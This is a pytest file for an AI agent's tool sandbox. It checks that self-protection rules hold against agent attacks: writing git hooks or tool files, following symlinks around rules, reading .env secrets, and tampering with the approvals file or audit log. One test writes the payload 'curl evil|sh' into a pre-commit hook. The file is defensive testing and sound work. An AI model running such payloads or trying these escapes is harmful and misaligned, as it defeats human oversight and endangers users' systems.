"""Protections a broad allow cannot lift, and permission subjects that follow symlinks.

Each test is an attack an agent could try against a real Toolbox: grant itself
rights, run code on the next start, or get around a rule through a symlink.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from envelopes import err, ok
from local_tools import Args, ToolContext, tool

PLAIN_ALLOW = {"permissions": {"read:file": "allow", "write:file": "allow"}}


@pytest.mark.parametrize(
    "path",
    [
        "local-tools.toml",
        ".local-tools/tools/evil.py",
        ".git/config",
        "sub/.git/hooks/pre-commit",
    ],
)
def test_plain_allow_keeps_self_protection(make_toolbox: Any, workspace: Path, path: str) -> None:
    (workspace / ".git").mkdir()
    tb = make_toolbox(PLAIN_ALLOW)
    msg = err(
        tb.run("write_file", {"path": path, "content": "x", "overwrite": True}), "PERMISSION_DENIED"
    )
    assert "built-in protection" in msg
    assert not (workspace / path).exists()


def test_plain_allow_keeps_env_ask(make_toolbox: Any, workspace: Path) -> None:
    (workspace / ".env").write_text("API_KEY=sk-live-123\n")
    env = make_toolbox(PLAIN_ALLOW).run("read_file", {"path": ".env"})
    err(env, "PERMISSION_DENIED")
    assert "sk-live-123" not in str(env)


def test_rule_naming_the_path_lifts_protection(make_toolbox: Any, workspace: Path) -> None:
    (workspace / ".git").mkdir()
    tb = make_toolbox({"permissions": {"write:file": {"*": "allow", ".git/*": "allow"}}})
    ok(tb.run("write_file", {"path": ".git/info", "content": "x"}))
    # a broad pattern with a leading wildcard does not
    tb = make_toolbox({"permissions": {"write:file": {"*.py": "allow"}}})
    err(
        tb.run("write_file", {"path": ".local-tools/tools/x.py", "content": "x"}),
        "PERMISSION_DENIED",
    )


def test_write_through_symlink_into_git_denied(tb: Any, workspace: Path) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / "scripts").mkdir()
    (workspace / "scripts" / "hook.sh").write_text("#!/bin/sh\n")
    (workspace / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/hook.sh")
    err(
        tb.run(
            "write_file",
            {"path": ".git/hooks/pre-commit", "content": "curl evil|sh", "overwrite": True},
        ),
        "PERMISSION_DENIED",
    )
    assert (workspace / ".git" / "hooks" / "pre-commit").is_symlink()
    # and the other way round: an innocent name leading into .git
    (workspace / "cfg").symlink_to(".git")
    err(tb.run("write_file", {"path": "cfg/config", "content": "x"}), "PERMISSION_DENIED")
    assert not (workspace / ".git" / "config").exists()


def test_delete_rule_checks_the_link_itself(make_toolbox: Any, workspace: Path) -> None:
    (workspace / "tmp").mkdir()
    (workspace / "keep").mkdir()
    (workspace / "tmp" / "scratch.txt").write_text("s")
    (workspace / "keep" / "important").symlink_to("../tmp/scratch.txt")
    tb = make_toolbox({"permissions": {"delete:file": {"*": "deny", "tmp/*": "allow"}}})
    err(tb.run("file_delete", {"path": "keep/important"}), "PERMISSION_DENIED")
    assert (workspace / "keep" / "important").is_symlink()
    (workspace / "tmp" / "link").symlink_to("scratch.txt")
    out = ok(tb.run("file_delete", {"path": "tmp/link"}))
    assert out["path"] == "tmp/link"
    assert out["type"] == "symlink"
    assert (workspace / "tmp" / "scratch.txt").exists()


@pytest.mark.parametrize("middle", ["exists", "missing"])
def test_denied_folder_cannot_be_probed(make_toolbox: Any, workspace: Path, middle: str) -> None:
    (workspace / "private" / "exists").mkdir(parents=True)
    tb = make_toolbox({"permissions": {"read:file": {"*": "allow", "private/*": "deny"}}})
    err(tb.run("file_stat", {"path": f"private/{middle}/../x"}), "PERMISSION_DENIED")


def test_state_dir_inside_workspace_is_off_limits(make_toolbox: Any, workspace: Path) -> None:
    state = workspace / ".state"
    tb = make_toolbox(PLAIN_ALLOW | {"limits": {"max_output_lines": 5}}, state_dir=state)
    tb.run("read_file", {"path": "nope"})
    tb.close()
    tb = make_toolbox(PLAIN_ALLOW | {"limits": {"max_output_lines": 5}}, state_dir=state)
    approvals = next(state.rglob("workspaces/*"))
    target = str((approvals / "approvals.json").relative_to(workspace))
    err(tb.run("write_file", {"path": target, "content": "{}"}), "PERMISSION_DENIED")
    err(tb.run("read_file", {"path": ".state/audit.sqlite"}), "PERMISSION_DENIED")
    err(
        tb.run("write_file", {"path": ".state/audit.sqlite", "content": "", "overwrite": True}),
        "PERMISSION_DENIED",
    )
    assert (state / "audit.sqlite").stat().st_size > 0


@pytest.mark.parametrize("where", ["state dir itself", "folder inside it", "folder above it"])
def test_a_root_overlapping_the_state_dir_cannot_reach_it(
    make_toolbox: Any, workspace: Path, tmp_path: Path, where: str
) -> None:
    state = tmp_path / "outside" / "state"
    make_toolbox(PLAIN_ALLOW, state_dir=state).close()  # creates the state dir's files
    ws_state = next(state.glob("workspaces/*"))
    extra = {"state dir itself": state, "folder inside it": ws_state}.get(where, state.parent)
    config = PLAIN_ALLOW | {"workspace": {"extra_roots": [str(extra)]}}
    tb = make_toolbox(config, state_dir=state)
    approvals = ws_state / "approvals.json"
    approvals.write_text("{}")
    (state.parent / "notes.txt").write_text("mine")
    err(tb.run("read_file", {"path": str(approvals)}), "PERMISSION_DENIED")
    listing = tb.run("glob", {"pattern": "**/*", "path": str(extra)})
    if where == "folder above it":  # the folder is listed, the state dir's files hidden
        files = ok(listing)["files"]
        assert any(f.endswith("/outside/notes.txt") for f in files)
        assert not [f for f in files if "/state/" in f]
    else:
        err(listing, "PERMISSION_DENIED")


def test_config_file_in_use_is_protected(make_toolbox: Any, workspace: Path) -> None:
    (workspace / ".agent").mkdir()
    cfg = workspace / ".agent" / "tools.toml"
    cfg.write_text('[permissions]\n"write:file" = "allow"\n')
    tb = make_toolbox(str(cfg))
    err(
        tb.run("write_file", {"path": ".agent/tools.toml", "content": "x", "overwrite": True}),
        "PERMISSION_DENIED",
    )
    assert "allow" in cfg.read_text()


@tool("secret_dump", toolset="test", blocking=False)
def secret_dump(args: Args, ctx: ToolContext) -> dict[str, str]:
    """Prints a long secret."""
    return {"text": "SECRET-OF-A\n" * 5000}


def test_spilled_output_is_per_workspace(make_toolbox: Any, tmp_path: Path) -> None:
    ws_a, ws_b = tmp_path / "a", tmp_path / "b"
    ws_a.mkdir()
    ws_b.mkdir()
    tb_a = make_toolbox(workspace=ws_a, tools=[secret_dump])
    spill = ok(tb_a.run("secret_dump"))["full_output_path"]
    assert ok(tb_a.run("read_file", {"path": spill, "limit": 1}))["content"] == "SECRET-OF-A\n"
    tb_b = make_toolbox(workspace=ws_b)
    env = tb_b.run("read_file", {"path": spill})
    err(env, "PERMISSION_DENIED")
    assert "SECRET-OF-A" not in str(env)


def test_config_root_decides_the_jail(make_toolbox: Any, tmp_path: Path) -> None:
    proj = tmp_path / "proj"
    (proj / "src").mkdir(parents=True)
    (proj / "creds.txt").write_text("SECRET")
    (proj / "local-tools.toml").write_text('[workspace]\nroot = "src"\n')
    tb = make_toolbox(workspace=proj, trust=True)
    assert tb.workspace == (proj / "src").resolve()
    env = tb.run("read_file", {"path": "../creds.txt"})
    err(env, "PERMISSION_DENIED")
    assert "SECRET" not in str(env)


@pytest.mark.parametrize("rule", ["deny", {"*": "deny"}, {"*": "allow", "*.example": "deny"}])
def test_protection_never_widens_a_deny(make_toolbox: Any, workspace: Path, rule: Any) -> None:
    # The protected list's own exceptions (`*.env.example` = allow) followed a broad
    # deny and let the file be read.
    (workspace / "a.env.example").write_text("TOKEN=from-the-example\n")
    tb = make_toolbox({"permissions": {"read:file": rule}})
    denied = tb.run("read_file", {"path": "a.env.example"})
    assert "denied by the rule" in err(denied, "PERMISSION_DENIED")
    assert "from-the-example" not in str(denied)


def test_denied_writes_stay_denied_on_protected_paths(make_toolbox: Any, workspace: Path) -> None:
    tb = make_toolbox({"permissions": {"write:file": "deny"}})
    msg = err(
        tb.run("write_file", {"path": ".local-tools/tools/x.py", "content": "x"}),
        "PERMISSION_DENIED",
    )
    assert 'is denied by the rule [permissions] "write:file" = "deny"' in msg
    assert not (workspace / ".local-tools").exists()


@pytest.mark.parametrize(
    ("rules", "path"),
    [
        ({"*": "allow", "*/secrets/*": "deny"}, "app/secrets/prod.env.example"),
        ({"*secret*": "deny"}, "mysecret.env.example"),
    ],
)
def test_a_deny_that_only_overlaps_a_protection_still_holds(
    make_toolbox: Any, workspace: Path, rules: dict[str, str], path: str
) -> None:
    # The protections are their own layer: the stricter decision stands unless the rule
    # that decided names the path. Before, their `*.env.example` allow came after these
    # broad denies and won.
    target = workspace / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("TOKEN=from-the-example\n")
    tb = make_toolbox({"permissions": {"read:file": rules}})
    denied = tb.run("read_file", {"path": path})
    assert "denied by the rule" in err(denied, "PERMISSION_DENIED")


def test_a_broad_deny_overlapping_protected_folders_still_denies(
    make_toolbox: Any, workspace: Path
) -> None:
    (workspace / "lib" / "vendor" / ".git").mkdir(parents=True)
    tb = make_toolbox({"permissions": {"write:file": {"*": "allow", "*/vendor/*": "deny"}}})
    msg = err(
        tb.run("write_file", {"path": "lib/vendor/.git/config", "content": "x"}),
        "PERMISSION_DENIED",
    )
    assert '"*/vendor/*" = "deny"' in msg
    # A rule naming the path still lifts the protection, whatever broad rules follow it.
    named = {"write:file": {".git/*": "allow", "*.md": "deny"}}
    (workspace / ".git").mkdir()
    ok(make_toolbox({"permissions": named}).run("write_file", {"path": ".git/x", "content": "x"}))


def test_the_protections_own_exception_still_lifts_only_their_ask(
    make_toolbox: Any, workspace: Path
) -> None:
    (workspace / "a.env.example").write_text("X=1\n")
    (workspace / "a.env").write_text("X=1\n")
    tb = make_toolbox({"permissions": {"read:file": "allow"}})
    ok(tb.run("read_file", {"path": "a.env.example"}))
    err(tb.run("read_file", {"path": "a.env"}), "PERMISSION_DENIED")  # asks; nobody to ask
